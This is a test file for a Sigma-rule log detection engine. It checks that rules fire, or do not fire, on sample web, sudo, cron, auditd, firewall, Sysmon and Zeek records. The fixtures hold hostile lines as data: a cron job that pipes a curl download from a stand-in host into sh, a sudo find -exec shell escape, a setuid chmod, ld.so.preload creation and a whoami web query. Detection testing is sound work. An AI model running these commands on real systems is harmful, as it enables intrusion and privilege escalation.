/**
 * Rules in the words of Sigma's log sources over lines as programs write them: what the parsers make of a line and what
 * the mappings call it must meet.
 */
import { describe, expect, it, test } from 'vitest';
import {
  compileRules,
  createCorrelator,
  loadSigmaYaml,
  type Mapping,
  type RuleContext,
  readMapping,
} from '../src/detect/index.ts';
import type { Alert, Event, Match, SourceInfo } from '../src/model/index.ts';
import { parseRecord } from '../src/parse/index.ts';

const file: SourceInfo = { source: 'file_x', source_type: 'file', peer: null, hint: null, identity: '' };
const webhook: SourceInfo = { ...file, source: 'webhook_x', source_type: 'webhook' };
const context = { zoneMinutesAt: () => 0, year: 2026, live: false };

/** A line of a log, or an object that is posted. */
type Input = string | Record<string, unknown>;

function eventOf(input: Input, seq = 0): Event {
  const isLine = typeof input === 'string';
  const body = isLine ? input : JSON.stringify(input);
  const received_at = Date.UTC(2026, 10, 21, 3, 0, seq);
  return parseRecord({ seq, origin: isLine ? file : webhook, received_at, body, position: seq }, context);
}

function rulesOf(text: string, more: RuleContext = {}) {
  const { docs, problems } = loadSigmaYaml(text, { origin: 'user', fileName: 'x.yml', ...more });
  expect(problems).toEqual([]);
  const rules = compileRules(docs, more);
  expect(rules.problems).toEqual([]);
  return rules;
}

const rule = (logsource: string, selection: string) =>
  `title: x\nid: 2d1a1c5e-0000-4000-8000-000000000001\nlogsource: ${logsource}\ndetection:\n  s: ${selection}\n  condition: s\n`;

function fires(logsource: string, selection: string, input: Input, more: RuleContext = {}): boolean {
  const matches: Match[] = [];
  rulesOf(rule(logsource, selection), more).match(eventOf(input), 1, matches);
  return matches.length > 0;
}

const nginx =
  '198.51.100.7 - ann [21/Nov/2026:03:00:00 +0000] "GET /app/export.php?file=a&cmd=whoami HTTP/1.1" 200 512 "https://www.example.com/start" "curl/8.5.0"';
const sudo =
  'Nov 21 03:00:00 web01 sudo:      ann : TTY=pts/0 ; PWD=/srv ; USER=root ; COMMAND=/usr/bin/find . -exec /bin/sh ;';
const cron = 'Nov 21 03:00:00 web01 CRON[4711]: (root) CMD (curl -fsS http://203.0.113.7/x.sh | sh)';
const execve = 'type=EXECVE msg=audit(1795230000.123:456): argc=3 a0="chmod" a1="u+s" a2="/tmp/x"';
const path =
  'type=PATH msg=audit(1795230000.123:457): item=1 name="/etc/ld.so.preload" inode=7 dev=fd:00 mode=0100644 ouid=0 ogid=0 nametype=CREATE';
const ufw =
  'Nov 21 03:00:00 fw01 kernel: [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56 SRC=203.0.113.9 DST=192.0.2.10 LEN=60 TTL=51 PROTO=TCP SPT=50000 DPT=23 WINDOW=64240 RES=0x00 SYN URGP=0';
const connect =
  '198.51.100.7 - - [21/Nov/2026:03:00:00 +0000] "CONNECT mail.example.com:25 HTTP/1.1" 405 5 "-" "badbot/1"';

const started = {
  Image: 'C:\\Windows\\System32\\cmd.exe',
  CommandLine: 'cmd.exe /c whoami /all',
  ParentImage: 'C:\\Windows\\explorer.exe',
  User: 'EXAMPLE\\ann',
};
const sysmon = { EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'ws1', ...started };
const nested = {
  Event: {
    System: { Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } }, EventID: 1, Computer: 'ws1' },
    EventData: started,
  },
};
const winlogbeat = {
  '@timestamp': '2026-11-21T03:00:00.000Z',
  winlog: { channel: 'Microsoft-Windows-Sysmon/Operational', event_id: 1, event_data: started },
};
const security = {
  EventID: '4688',
  Channel: 'Security',
  NewProcessName: started.Image,
  CommandLine: started.CommandLine,
  ParentProcessName: started.ParentImage,
  SubjectUserName: 'ann',
};
const ecs = {
  event: { category: 'process', code: '1' },
  process: {
    executable: started.Image,
    command_line: started.CommandLine,
    parent: { executable: started.ParentImage },
  },
};
const webRequest = { http: { request: { method: 'POST' }, response: { status_code: 500 } }, url: { path: '/login' } };
const zeekDns = {
  ...{ ts: 1795230000.1, uid: 'C1', 'id.orig_h': '192.0.2.7', 'id.orig_p': 4711, 'id.resp_h': '192.0.2.53' },
  ...{ 'id.resp_p': 53, query: 'bad.example.com', qtype_name: 'A' },
};
const canary = {
  ...{ dst_host: '192.0.2.9', dst_port: 22, logdata: { USERNAME: 'root' }, logtype: 4002, node_id: 'canary-1' },
  ...{ src_host: '203.0.113.5', src_port: 4711 },
};

const windowsStart = '{ product: windows, category: process_creation }';
const whoami = "{ Image|endswith: '\\cmd.exe', CommandLine|contains: whoami, ParentImage|endswith: '\\explorer.exe' }";

describe('rules of public log sources fire on what Phosor parsed', () => {
  test.each<[string, string, string, Input]>([
    [
      'webserver',
      '{ category: webserver }',
      '{ cs-method: GET, cs-uri-query|contains: cmd=whoami, sc-status: 200 }',
      nginx,
    ],
    [
      'webserver, whole target',
      '{ category: webserver }',
      '{ cs-uri-query|contains: /app/export.php, c-ip: 198.51.100.7 }',
      nginx,
    ],
    [
      'webserver, parts',
      '{ category: webserver }',
      '{ cs-uri-stem|endswith: .php, cs-uri|endswith: whoami, c-uri-extension: php }',
      nginx,
    ],
    [
      'webserver, client',
      '{ category: webserver }',
      '{ cs-user-agent|startswith: curl/, cs-referer|contains: example.com, cs-username: ann }',
      nginx,
    ],
    ['webserver, keywords', '{ category: webserver }', "['cmd=whoami', 'nothing']", nginx],
    [
      'webserver, posted',
      '{ category: webserver }',
      '{ cs-method: POST, sc-status|gte: 500, cs-uri-stem: /login }',
      webRequest,
    ],
    ['product nginx', '{ product: nginx, service: nginx }', '{ sc-status: 200 }', nginx],
    ['proxy', '{ category: proxy }', '{ cs-method: CONNECT, c-useragent|startswith: badbot }', connect],
    [
      'sudo',
      '{ product: linux, category: process_creation }',
      "{ Image|endswith: /find, CommandLine|contains: '-exec', ParentImage|endswith: /sudo, User: root, CurrentDirectory: /srv }",
      sudo,
    ],
    [
      'cron',
      '{ product: linux, category: process_creation }',
      '{ Image|endswith: /curl, ParentImage|endswith: /cron }',
      cron,
    ],
    ['auditd', '{ product: linux, service: auditd }', "{ type: EXECVE, a0|contains: chmod, a1: 'u+s' }", execve],
    [
      'auditd as a process',
      '{ product: linux, category: process_creation }',
      "{ Image|endswith: /chmod, CommandLine|contains: 'u+s' }",
      execve,
    ],
    ['auditd as a file', '{ product: linux, category: file_event }', '{ TargetFilename: /etc/ld.so.preload }', path],
    [
      'firewall',
      '{ category: firewall }',
      '{ dst_port: 23, src_ip|cidr: 203.0.113.0/24, action: [denied, blocked] }',
      ufw,
    ],
    [
      'network connection',
      '{ category: network_connection, product: linux }',
      '{ DestinationPort: 23, SourceIp: 203.0.113.9 }',
      ufw,
    ],
    ['Sysmon, flat', windowsStart, whoami, sysmon],
    ['Sysmon, nested', windowsStart, whoami, nested],
    ['Sysmon, winlogbeat', windowsStart, whoami, winlogbeat],
    ['Security 4688', windowsStart, whoami, security],
    ['ECS', windowsStart, whoami, ecs],
    [
      'Provider_Name',
      '{ product: windows, service: sysmon }',
      '{ Provider_Name: Microsoft-Windows-Sysmon, EventID: 1 }',
      nested,
    ],
    [
      'service security',
      '{ product: windows, service: security }',
      '{ EventID: 4688, SubjectUserName: ann }',
      security,
    ],
    ['dns', '{ category: dns }', '{ query|endswith: .example.com, record_type: A }', zeekDns],
    ['zeek', '{ product: zeek, service: dns }', "{ id.orig_h: 192.0.2.7, query|startswith: 'bad.' }", zeekDns],
    ['opencanary', '{ product: opencanary, category: application }', '{ logtype: 4002 }', canary],
  ])('%s', (_, logsource, selection, input) => {
    expect(fires(logsource, selection, input)).toBe(true);
  });

  test.each<[string, string, string, Input]>([
    ['a Windows rule on sudo', windowsStart, '{ CommandLine|contains: -exec }', sudo],
    ['a Windows rule on a web request', windowsStart, "['whoami']", nginx],
    ['another category', '{ product: windows, category: file_event }', whoami, sysmon],
    ['the same number in another channel', windowsStart, '{ EventID: 1 }', { ...sysmon, Channel: 'System' }],
    ['another service', '{ product: windows, service: system }', '{ EventID: 4688 }', security],
    ['a Linux rule for web servers on a firewall line', '{ category: webserver }', "['203.0.113.9']", ufw],
    ['a proxy rule on requests to a server of ours', '{ category: proxy }', '{ c-useragent|startswith: curl }', nginx],
    ['another Zeek log', '{ product: zeek, service: http }', "['bad.example.com']", zeekDns],
    ['a macOS rule on Linux', '{ product: macos, category: process_creation }', '{ Image|endswith: /find }', sudo],
    ['an absent field', '{ category: webserver }', '{ cs-cookie|exists: true }', nginx],
  ])('not %s', (_, logsource, selection, input) => {
    expect(fires(logsource, selection, input)).toBe(false);
  });

  it('counts and groups by mapped names, and explains with them', () => {
    const text = `title: many failed logons
id: 2d1a1c5e-0000-4000-8000-000000000002
correlation: { type: value_count, rules: [failed], group-by: [IpAddress], timespan: 5m, condition: { field: TargetUserName, gte: 3 } }
---
title: a failed logon
name: failed
logsource: { product: windows, service: security }
detection: { s: { EventID: 4625 }, condition: s }
`;
    const rules = rulesOf(text);
    const correlator = createCorrelator(rules, { maxGroupsPerRule: 100, latenessMs: 60_000, finalOnly: false });
    const alerts: Alert[] = [];
    for (const [seq, name] of ['ann', 'bob', 'carl'].entries()) {
      const EventData = { TargetUserName: name, IpAddress: '203.0.113.5' };
      const matches: Match[] = [];
      rules.match(eventOf({ Event: { System: { EventID: 4625, Channel: 'Security' }, EventData } }, seq), seq, matches);
      alerts.push(...correlator.observe(matches).map(({ alert }) => alert));
    }
    expect(alerts.map(({ group, explain }) => [group, explain.correlation?.values])).toEqual([
      [{ IpAddress: '203.0.113.5' }, ['ann', 'bob', 'carl']],
    ]);
    const clauses = JSON.stringify(alerts[0]?.explain.clauses);
    expect(clauses).toContain('"field":"EventID","value":4625');
  });
});

describe('mappings of the user', () => {
  const own = `name: appliance
logsources:
  - for: [{ product: acme, service: gate }]
    events: [{ program: acmed }]
    fields:
      verdict: [{ of: event_type, table: { message: seen } }]
      SrcAddr: src_ip
  - for: [{ category: webserver }]
    fields: { x-team: [fields.team] }
`;

  it('add log sources and names', () => {
    const { mapping, problem } = readMapping(own);
    expect(problem).toBeNull();
    const mappings = [mapping as Mapping];
    const line = 'Nov 21 03:00:00 gw01 acmed[1]: gate opened for 203.0.113.5';
    expect(fires('{ product: acme, service: gate }', '{ verdict: seen }', line, { mappings })).toBe(true);
    expect(fires('{ product: acme, service: gate }', '{ verdict: seen }', sudo, { mappings })).toBe(false);
    expect(fires('{ category: webserver }', '{ cs-method: GET }', nginx, { mappings })).toBe(true);
  });

  test.each<[string, string, number, RegExp]>([
    ['no YAML', 'name: [', 1, /not valid YAML/],
    ['nothing', '', 1, /empty/],
    ['no name', 'logsources: [{ for: [{ product: x }] }]\n', 1, /`name` must be a text/],
    ['an unknown key', 'name: x\nlogsources:\n  - for: [{ product: x }]\n    field: {}\n', 4, /`field` is not known/],
    [
      'a column',
      'name: x\nlogsources:\n  - for: [{ product: x }]\n    fields:\n      user: [a]\n',
      5,
      /column of the Event/,
    ],
    [
      'a wrong source',
      'name: x\nlogsources:\n  - for: [{ product: x }]\n    fields:\n      A: { upper: b }\n',
      5,
      /a source is/,
    ],
    ['a wrong log source', 'name: x\nlogsources:\n  - for: [{ vendor: x }]\n', 3, /`vendor` is not known/],
    ['no log source', 'name: x\nlogsources: []\n', 2, /list that is not empty/],
    [
      'a selection with an unknown modifier',
      'name: x\nlogsources:\n  - for: [{ product: x }]\n    events: [{ a|near: b }]\n',
      4,
      /modifier `near`/,
    ],
  ])('are refused whole: %s', (_, text, line, reason) => {
    const { mapping, problem } = readMapping(text);
    expect(mapping).toBeNull();
    expect(problem?.message).toMatch(reason);
    expect(problem?.line).toBe(line);
  });
});
